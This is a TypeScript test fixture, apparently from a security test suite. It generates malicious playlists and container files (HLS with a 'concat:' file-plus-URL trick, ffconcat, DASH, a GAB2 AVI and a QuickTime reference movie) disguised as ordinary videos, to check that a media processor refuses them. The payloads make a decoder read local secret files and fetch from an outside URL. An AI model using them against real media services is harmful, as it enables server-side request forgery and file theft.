import { full } from '../scale.ts'
import type { Lure, Trap } from './lure.ts'

/** A RIFF chunk. */
const riff = (id: string, ...parts: (string | Buffer)[]) => {
  const body = Buffer.concat(parts.map((part) => Buffer.from(part as string)))
  const size = Buffer.alloc(4)
  size.writeUInt32LE(body.length)
  return Buffer.concat([Buffer.from(id), size, body, Buffer.alloc(body.length & 1)])
}

const kinds = ['mp4', 'mp3', 'wav', 'avi']

/** Playlists and stream descriptions, disguised as videos and sounds. */
export const media: Trap = ({ folder, url }) => {
  const file = (name: string) => `file://${folder}/${name}`
  const hls = `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXT-X-TARGETDURATION:1\n#EXT-X-KEY:METHOD=AES-128,URI="${url}/key"\n#EXTINF:1.0,\n${url}/a.ts\n#EXTINF:1.0,\n${file('secret.txt')}\n#EXTINF:1.0,\nconcat:${folder}/secret.txt|${url}/c.ts\n#EXT-X-ENDLIST\n`
  const dash = `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1" codecs="avc1.4d"><BaseURL>${url}/dash.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>`
  const texts: Record<string, string> = {
    'a playlist (HLS)': hls,
    'a list of parts (ffconcat)': `ffconcat version 1.0\nfile '${folder}/secret.mp3'\nfile '${url}/a.mp3'\n`,
    'a playlist (M3U)': `#EXTM3U\n${folder}/secret.mp3\n${url}/a.mp3\n`,
    'a playlist (PLS)': `[playlist]\nFile1=${url}/a.mp3\nNumberOfEntries=1\n`,
    'a session (SDP)':
      'v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 18099 RTP/AVP 96\na=rtpmap:96 H264/90000\n',
    'a manifest (DASH)': dash,
    'a redirection (RTSP)': `RTSP/1.0 302 Found\r\nLocation: ${url}/a.mp4\r\n\r\n`,
  }
  const disguised = Object.entries(texts).flatMap(([what, content], turn): Lure[] =>
    (full ? kinds : [kinds[turn % kinds.length]!]).map((kind) => ({
      what: `${what} as ${kind}`,
      name: `a.${kind}`,
      as: kind,
      content,
      refused: 'UNSUPPORTED_FORMAT',
    })),
  )
  // A video with a playlist as subtitles (GAB2).
  const gab2 = Buffer.concat([Buffer.from('GAB2\0\x02\0\0\0\0\0\x04\0\0\0\0\0', 'latin1'), Buffer.from(hls)])
  const avih = Buffer.alloc(56)
  avih.writeUInt32LE(40_000, 0)
  avih.writeUInt32LE(1, 24)
  const strh = Buffer.alloc(56)
  strh.write('txts', 0)
  const avi = riff(
    ...(['RIFF', 'AVI '] as const),
    riff('LIST', 'hdrl', riff('avih', avih), riff('LIST', 'strl', riff('strh', strh), riff('strf', Buffer.alloc(0)))),
    riff('LIST', 'movi', riff('00tx', gab2)),
  )
  // A QuickTime video that consists of references only.
  const atom = (type: string, ...parts: (string | Buffer)[]) => {
    const body = Buffer.concat(parts.map((part) => Buffer.from(part as string)))
    const size = Buffer.alloc(4)
    size.writeUInt32BE(body.length + 8)
    return Buffer.concat([size, Buffer.from(type), body])
  }
  const reference = (target: string) =>
    atom('rmda', atom('rdrf', Buffer.alloc(4), 'url ', Buffer.from([0, 0, 0, target.length + 1]), `${target}\0`))
  const film = Buffer.concat([
    atom('ftyp', 'qt  ', Buffer.alloc(4), 'qt  '),
    atom('moov', atom('rmra', reference(`${url}/reference.mov`), reference(file('secret.mp3')))),
  ])
  return [
    ...disguised,
    { what: 'subtitles that are a playlist', name: 'g.avi', content: avi },
    { what: 'a film of references', name: 'r.mov', content: film },
  ]
}
